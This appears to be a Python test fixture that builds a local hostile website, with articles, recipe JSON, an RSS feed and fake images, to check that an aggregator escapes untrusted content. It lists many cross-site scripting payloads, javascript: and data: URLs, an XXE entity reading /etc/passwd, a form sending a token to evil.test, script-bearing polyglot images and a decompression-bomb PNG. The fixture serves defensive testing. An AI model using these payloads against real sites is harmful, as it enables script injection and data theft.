"""A source that attacks whoever reads it: markup in all its texts, addresses that run, pictures that are none.

Everything would call `alert`, load something from evil.test, or change the page. What a vector has to look like in the
end is text.
"""

from __future__ import annotations

import html
import json
from pathlib import Path

from local_site import HTML, JSON, PNG, XML, LocalSite, png

EVIL = "http://evil.test"
RUN = "alert(1)"

#: What is put into every text.
TEXTS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"` onerror={RUN} `",
    f'"><svg onload={RUN}>',
    f"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='{EVIL}/x.svg#x'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/x>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>*{{background:url({EVIL}/x)}}</style>",
    f"<p style='background:url({EVIL}/x);position:fixed;inset:0'>cover</p>",
    f"<form action={EVIL}/><input name=token><button>Go on</button></form>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<body onload={RUN}><marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<template><script>{RUN}</script></template>",
    "<div data-timer=x data-seconds=1 id=main class=cstep data-n=1>clobbered</div>",
    "<img name=larder><form id=search name=getElementById></form><a id=q>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c/script&#x3e;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7} {% debug %}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "\u2028\u2029'+alert(1)+'\\u0027;alert(1)//",
    "\\';alert(1)//</script><!--",
    "abc\u0000def<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u0001\u0008\u000b\u000c\u000e\u001b[31mred\u001b[0m\u007f",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fright",
    "\ufeff\uffff\ufffe\ud83d\ude00 zero\u200bwidth",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02babreak\u02ba",
    "e" + "\u0301" * 500,
    "W" * 5_000,
    f"<a href='{EVIL}' ping='{EVIL}/ping' target=_top>",
    f"<portal src={EVIL}></portal><fencedframe src={EVIL}>",
    f"<a href='java\tscript:{RUN}' id=x>tab</a><x onclick={RUN} contenteditable>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    f"<plaintext><listing>&lt;img onerror={RUN}&gt;",
    f"<isindex type=image src=1 onerror={RUN}><keygen autofocus onfocus={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<?xml-stylesheet href='javascript:{RUN}'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    f"<button popovertarget=keys form=search formaction=javascript:{RUN}>",
]
#: What stands where an address belongs.
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"\u0001javascript:{RUN}",
    f"javascript://evil.test/%0a{RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"blob:{EVIL}/1",
    "file:///etc/passwd",
    "view-source:http://evil.test/",
    "//evil.test/relative",
    "\\\\evil.test\\share",
    "http://user:secret@evil.test/",
    "http://127.0.0.1\\@evil.test/",
    f'http://evil.test/"onclick="{RUN}',
    "http://evil.test/'onclick='alert(1)",
    "http://evil.test/<script>",
    f"feed:javascript:{RUN}",
    "intent://evil.test#Intent;scheme=http;end",
]
ITEMS, LONG = len(TEXTS), 10_000_000


def pictures() -> dict[str, tuple[str, bytes]]:
    """Files that call themselves pictures, by name: their media type and bytes."""
    script = f"<html><script>{RUN}</script></html>".encode()
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
    return {
        "page.png": (PNG, script),
        "drawing.png": (PNG, svg),
        "drawing.svg": ("image/svg+xml", svg),
        "both.png": (PNG, png(200, 150, (180, 40, 40), trailer=script)),
        "picture-as-page.png": (HTML, png(200, 150, (40, 180, 40), trailer=script)),
        "gif-script.gif": ("image/gif", b"GIF89a/*" + b"\0" * 40 + b"*/=1;" + RUN.encode()),
        "bomb.png": (PNG, png(1, 1, (0, 0, 0)).replace(b"\0\0\0\1\0\0\0\1", b"\x7f\xff\xff\xff\x7f\xff\xff\xff")),
        "empty.jpg": ("image/jpeg", b"\xff\xd8\xff"),
    }


def page(site: LocalSite, number: int) -> str:
    """An article whose markup attacks: raw, as it came."""
    text, address = TEXTS[number], ADDRESSES[number % len(ADDRESSES)]
    quoted = html.escape(address)
    return f"""<!doctype html><html lang='en"onload={RUN}'><head><title>{html.escape(text)}</title>
        <meta property="og:image" content="{site.base}/pictures/{list(pictures())[number % 8]}">
        <meta name="author" content="{html.escape(text)}"></head><body><main><article>
        <h1>{html.escape(text)}</h1><p>{"Words of an article that anybody may read. " * 20}</p>
        <h2 id="x{number}">{html.escape(text)}</h2><p>{text}</p></p><p>{html.escape(text)}</p>
        <p>A <a href="{quoted}" title="{html.escape(text)}">link {number}</a> and
        <a href="#x{number}">a place</a>.</p>
        <figure><img src="{quoted}" alt="{html.escape(text)}"><figcaption>{html.escape(text)}</figcaption></figure>
        <table><tr><th>{html.escape(text)}</th></tr><tr><td>{text}</td></tr></table>
        <pre><code>{html.escape(text)}</code></pre><blockquote><p>{html.escape(text)}</p></blockquote>
        <iframe src="{quoted}"></iframe><video src="{quoted}"></video>
        <p>{"The end of an article that anybody may read. " * 20}</p></article></main></body></html>"""


def recipe(site: LocalSite, number: int) -> dict[str, object]:
    """A recipe of an API whose every field attacks: with markup, or in the second half with text that shows markup."""
    text, address = TEXTS[number % ITEMS], ADDRESSES[number % len(ADDRESSES)]
    if number >= ITEMS:
        text = html.escape(text)
    return {
        "id": number,
        "title": f"{text} r{number}",
        "url": address,
        "image": f"{site.base}/pictures/{list(pictures())[number % 8]}" if number % 3 else address,
        "author": text,
        "summary": text,
        "html": f"<p>{text}</p>",
        "ingredients": [f"2 cups {text}", text, f"1 {text} ({text})"],
        "instructions": f"Stir {text} for 20 minutes.\nBake {text} at 180 °C for 5 minutes.",
        "categories": [text[:200]],
        "tags": [text[:200], f"word{number}"],
        "cuisines": [text[:200]],
        "equipment": [text],
        "videos": [address],
        "yields": text if number % 2 else "4",
        "language": text[:40],
    }


def feed(site: LocalSite) -> str:
    entries = "".join(
        f"<item><title>{html.escape(clean(text))}</title><link>{html.escape(clean(ADDRESSES[number % 22]))}</link>"
        f"<guid isPermaLink='false'>f{number}</guid><author>{html.escape(clean(text))}</author>"
        f"<category>{html.escape(clean(text[:200]))}</category>"
        f"<description>{html.escape(clean(text))}</description></item>"
        for number, text in enumerate(TEXTS)
    )
    return f"<rss version='2.0'><channel><title>{html.escape(TEXTS[0])}</title>{entries}</channel></rss>"


def clean(text: str) -> str:
    """Without the characters that XML does not allow: with them a feed would be no feed at all."""
    return "".join(
        c for c in text if c in "\t\n" or (c >= " " and c not in "\ufffe\uffff" and not "\ud800" <= c <= "\udfff")
    )


def hostile() -> LocalSite:
    site = LocalSite()
    for name, (kind, body) in pictures().items():
        site.put(f"/pictures/{name}", body, kind)
    for number in range(ITEMS):
        site.put(f"/page/{number}", page(site, number).encode("utf-8", "replace"))
    site.sitemap("/sitemap.xml", [f"/page/{number}" for number in range(ITEMS)])
    long = {**recipe(site, 0), "title": "&lt;script&gt;" * (LONG // 14), "url": f"{site.base}/long"}
    recipes = [recipe(site, number) for number in range(2 * ITEMS)]
    site.put("/recipes", json.dumps({"items": recipes}), JSON)
    site.put("/long", json.dumps({"items": [long]}), JSON)
    site.put("/feed", feed(site).encode("utf-8", "replace"), XML)
    return site


def add_sources(site: LocalSite, larder: Path) -> list[str]:
    folder = larder / "sources"
    folder.mkdir(parents=True, exist_ok=True)
    names = ["id", "title", "url", "image", "html", "summary", "author", "ingredients", "instructions", "categories"]
    names += ["tags", "cuisines", "equipment", "videos", "yields", "language"]
    fields = "".join(f"  {name}: /{name}\n" for name in names)
    # Hosts that are not there are not asked again.
    usual = f"base: {site.base}\nretry: {{attempts: 1}}\n"
    for name, path in [("bad-recipes", "/recipes"), ("bad-long", "/long")]:
        text = f"name: {name}\nkind: json\n{usual}list: {path}\nitems: /items\nsite: recipe\npages: false\n"
        (folder / f"{name}.yaml").write_text(f"{text}fields:\n{fields}")
    (folder / "bad-pages.yaml").write_text(
        f"name: bad-pages\nkind: sitemap\n{usual}site: article\nsitemaps: [/sitemap.xml]\n"
    )
    usual = usual.replace(site.base, site.base + "/feed")
    (folder / "bad-feed.yaml").write_text(f"name: bad-feed\nkind: feed\n{usual}pages: false\n")
    return ["bad-recipes", "bad-long", "bad-pages", "bad-feed"]
